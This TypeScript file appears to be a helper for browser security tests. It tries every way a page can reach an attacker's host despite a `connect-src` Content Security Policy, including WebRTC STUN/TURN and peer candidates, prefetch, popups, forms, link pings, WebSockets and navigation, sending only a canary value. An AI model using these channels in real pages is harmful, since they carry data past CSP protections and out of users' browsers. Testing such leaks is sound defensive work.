/** Where {@link leaveEverywhere} tries to go. */
export interface Destinations {
  /** An address of the attacker's machine. */
  readonly host: string;
  /** Ports for each kind of WebRTC traffic. */
  readonly stun: number;
  readonly turn: number;
  readonly turnTcp: number;
  readonly peer: number;
  /** The prefix of every HTTP address, e.g. `http://127.0.0.1:20000/by-`. */
  readonly prefix: string;
}

/** The exits over HTTP that {@link leaveEverywhere} tries. */
export const HTTP_EXITS = ['prefetch', 'preload', 'popup', 'blank-popup', 'form', 'link', 'ping', 'socket'];

/** Runs in a page: every exit that `connect-src` does not close, except for the navigation of the page itself. */
export async function leaveEverywhere({
  host,
  stun,
  turn,
  turnTcp,
  peer,
  prefix,
}: Destinations): Promise<void> {
  const account = { username: 'user', credential: 'canary' };
  const gather = async (iceServers: RTCIceServer[]): Promise<RTCPeerConnection> => {
    const connection = new RTCPeerConnection({ iceServers });
    connection.createDataChannel('canary');
    await connection.setLocalDescription(await connection.createOffer());
    return connection;
  };
  /** A data channel to a peer whose address script chooses. */
  const connectToPeer = async (): Promise<void> => {
    const connection = await gather([]);
    const answering = new RTCPeerConnection();
    if (connection.localDescription === null) return;
    await answering.setRemoteDescription(connection.localDescription);
    await answering.setLocalDescription(await answering.createAnswer());
    if (answering.localDescription === null) return;
    await connection.setRemoteDescription(answering.localDescription);
    await connection.addIceCandidate({
      candidate: `candidate:1 1 udp 2113937151 ${host} ${peer} typ host`,
      sdpMid: '0',
    });
  };
  const add = (tag: string, attributes: Readonly<Record<string, string>>): HTMLElement => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  const ways: readonly (() => unknown)[] = [
    () => gather([{ urls: `stun:${host}:${stun}` }]),
    () => gather([{ urls: `turn:${host}:${turn}`, ...account }]),
    () => gather([{ urls: `turn:${host}:${turnTcp}?transport=tcp`, ...account }]),
    connectToPeer,
    () => add('link', { rel: 'prefetch', href: `${prefix}prefetch` }),
    () => add('link', { rel: 'preload', as: 'fetch', href: `${prefix}preload` }),
    () => open(`${prefix}popup`),
    () => open('about:blank')?.location.assign(`${prefix}blank-popup`),
    () => {
      const form = add('form', { action: `${prefix}form`, target: '_blank' });
      if (form instanceof HTMLFormElement) form.submit();
    },
    () => add('a', { href: `${prefix}link`, target: '_blank', ping: `${prefix}ping` }).click(),
    () => new WebSocket(`${prefix.replace('http', 'ws')}socket`),
  ];
  for (const leave of ways) {
    try {
      await leave();
    } catch {
      // The browser may also refuse an exit with an exception.
    }
  }
}

/** Runs in a page: the page itself navigates, once the driver has the result of this call. A navigation could lose it. */
export function leaveByNavigation(url: string): void {
  setTimeout(() => location.assign(url));
}
